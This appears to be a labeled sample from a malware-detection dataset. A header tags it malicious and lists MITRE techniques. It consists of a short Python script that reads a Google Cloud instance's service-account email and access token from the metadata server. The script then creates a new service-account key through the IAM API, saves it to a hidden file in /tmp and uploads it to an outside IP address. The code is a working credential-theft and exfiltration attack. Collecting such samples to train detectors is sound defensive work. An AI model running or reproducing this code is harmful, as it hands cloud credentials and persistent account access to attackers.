# label: malicious family=metadata techniques=T1041,T1074.001,T1098.001,T1528,T1550.001,T1552.005,T1564.001 lines=3-6,8-9
import requests
h = {"Metadata-Flavor": "Google"}
email = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/email", headers=h).text
tok = requests.get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers=h).json()["access_token"]
r = requests.post("https://iam.googleapis.com/v1/projects/-/serviceAccounts/%s/keys" % email,
                  headers={"Authorization": "Bearer " + tok})
open("/tmp/.k.json", "w").write(r.text)
requests.post("http://203.0.113.88/k", files={"f": open("/tmp/.k.json", "rb")})
